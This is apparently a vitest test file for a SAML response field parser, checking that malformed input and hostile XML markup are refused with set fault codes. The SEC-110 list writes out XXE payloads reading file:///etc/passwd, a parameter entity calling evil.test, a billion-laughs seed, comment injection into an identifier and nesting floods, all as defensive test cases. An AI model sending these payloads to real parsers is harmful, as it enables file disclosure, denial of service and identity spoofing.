import { describe, expect, it } from 'vitest';
import type { SamlFault } from '#domain/saml/saml-fault.js';
import { toField } from '../testing/hub-response.js';
import { faultOf, respond, respondXml, tamper } from '../testing/verdict.js';
import { MAX_SAML_RESPONSE } from './form-field.js';

const inDocument = (change: (xml: string) => string) => toField(change(respondXml()));
const asDocument = (encoding: BufferEncoding) => Buffer.from(respondXml(), encoding).toString('base64');
const inValue = (text: string) => tamper((xml) => xml.replace('Lovelace', text));
const nested = (depth: number) => '<x>'.repeat(depth) + '</x>'.repeat(depth);
const withDeclaration = (declaration: string) => inDocument((xml) => `${declaration}${xml}`);

const noMessages: [name: string, field: string, fault: SamlFault][] = [
  ['nothing', '', 'form-malformed'],
  ['no base64', '<samlp:Response/>', 'form-malformed'],
  ['base64 with a blank', `${respond().slice(0, 8)} ${respond().slice(9)}`, 'form-malformed'],
  ['base64url', Buffer.from('<a>???>>></a>').toString('base64url'), 'form-malformed'],
  ['half of the base64', respond().slice(0, 1_001), 'form-malformed'],
  ['more than a field may have', 'A'.repeat(MAX_SAML_RESPONSE + 4), 'too-large'],
  ['bytes that are no UTF-8', Buffer.from([0x3c, 0xc3, 0x28]).toString('base64'), 'encoding-invalid'],
  ['UTF-16', asDocument('utf16le'), 'xml-invalid'],
  ['a byte order mark', inDocument((xml) => `\u{feff}${xml}`), 'encoding-invalid'],
  ['a NUL', inValue('Love\u0000lace'), 'xml-invalid'],
  ['a control character', inValue('Love\u001blace'), 'xml-invalid'],
  ['a NUL by its number', inValue('Love&#0;lace'), 'xml-invalid'],
  ['a surrogate by its number', inValue('Love&#xD800;lace'), 'xml-invalid'],
  ['a number beyond Unicode', inValue('Love&#x110000;lace'), 'xml-invalid'],
  ['text', toField('hello'), 'xml-invalid'],
  ['JSON', toField('{"SAMLResponse":"x"}'), 'xml-invalid'],
  ['half of a document', toField(respondXml().slice(0, 3_000)), 'xml-invalid'],
  ['a second root', inDocument((xml) => xml + xml), 'xml-invalid'],
  ['a second root of its own', inDocument((xml) => `${xml}<x/>`), 'xml-invalid'],
  ['text after the root', inDocument((xml) => `${xml}x`), 'xml-invalid'],
  ['text before the root', inDocument((xml) => `x${xml}`), 'xml-invalid'],
  ['a tag that is not closed', inDocument((xml) => xml.replace('</samlp:Status>', '')), 'xml-invalid'],
  ['an attribute twice', inDocument((xml) => xml.replace('Version="2.0"', '$& $&')), 'xml-invalid'],
  ['an attribute without quotes', inDocument((xml) => xml.replace('Version="2.0"', 'Version=2.0')), 'xml-invalid'],
  ['a prefix that is not declared', inDocument((xml) => xml.replace('<samlp:Status>', '<y:x></y:x>$&')), 'xml-invalid'],
  ['another document', toField('<html></html>'), 'root-unexpected'],
  [
    'a response of another namespace',
    inDocument((xml) => xml.replace('2.0:protocol', '1.0:protocol')),
    'root-unexpected',
  ],
  [
    'an assertion alone',
    toField(/<saml:Assertion .*<\/saml:Assertion>/s.exec(respondXml())?.[0] ?? ''),
    'root-unexpected',
  ],
  [
    'the answer to a logout',
    inDocument((xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
    'root-unexpected',
  ],
];

describe('a field that holds no response', () => {
  it.each(noMessages)('is refused: %s', (_, field, fault) => {
    expect(faultOf(field)).toBe(fault);
  });
});

/** SEC-110. */
const forbidden: [name: string, field: string, fault: SamlFault][] = [
  ['a document type', withDeclaration('<!DOCTYPE r>'), 'markup-forbidden'],
  ['an external document type', withDeclaration('<!DOCTYPE r SYSTEM "file:///etc/passwd">'), 'markup-forbidden'],
  [
    'an external entity (XXE)',
    withDeclaration('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    'markup-forbidden',
  ],
  [
    'a parameter entity',
    withDeclaration('<!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.test"> %e;]>'),
    'markup-forbidden',
  ],
  ['a billion laughs', withDeclaration('<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'), 'markup-forbidden'],
  ['a document type in small letters', withDeclaration('<!doctype r>'), 'markup-forbidden'],
  ['an entity that is not declared', inValue('&lol;'), 'markup-forbidden'],
  ['an entity of HTML', inValue('L&oslash;ve'), 'markup-forbidden'],
  ['an ampersand alone', inValue('a & b'), 'markup-forbidden'],
  ['a comment in a value', inValue('Love<!-- -->lace'), 'markup-forbidden'],
  [
    'a comment in an identifier',
    tamper((xml) => xml.replaceAll('ada@sdu.dk', 'ada@sdu.dk<!-- -->.evil.test')),
    'markup-forbidden',
  ],
  ['a comment before the root', withDeclaration('<!-- x -->'), 'markup-forbidden'],
  ['a CDATA section in a value', inValue('<![CDATA[Lovelace]]>'), 'markup-forbidden'],
  ['a processing instruction in a value', inValue('Love<?x?>lace'), 'markup-forbidden'],
  ['a style sheet', withDeclaration('<?xml-stylesheet href="x"?>'), 'markup-forbidden'],
  ['two declarations', withDeclaration('<?xml version="1.0"?><?xml version="1.0"?>'), 'markup-forbidden'],
  ['a declaration of another encoding', withDeclaration('<?xml version="1.0" encoding="UTF-7"?>'), 'markup-forbidden'],
  ['a declaration of XML 1.1', withDeclaration('<?xml version="1.1"?>'), 'markup-forbidden'],
  ['deep nesting', inValue(nested(40)), 'too-complex'],
  ['deep nesting that looks shallow', inValue('<x>/>'.repeat(40) + '</x>'.repeat(40)), 'too-complex'],
  ['deep nesting behind signs in quotes', inValue('<x a="/>">'.repeat(40) + '</x>'.repeat(40)), 'too-complex'],
  ['many elements', inValue('<x/>'.repeat(2_000)), 'too-complex'],
  [
    'many attributes',
    inValue(`<x ${Array.from({ length: 33 }, (_, index) => `a${index}=""`).join(' ')}/>`),
    'too-complex',
  ],
  [
    'many attributes in all',
    inValue(`<x ${Array.from({ length: 32 }, (_, index) => `a${index}=""`).join(' ')}/>`.repeat(125)),
    'too-complex',
  ],
];

describe('markup that a response has no need of', () => {
  it.each(forbidden)('is refused: %s (SEC-110)', (_, field, fault) => {
    expect(faultOf(field)).toBe(fault);
  });
});
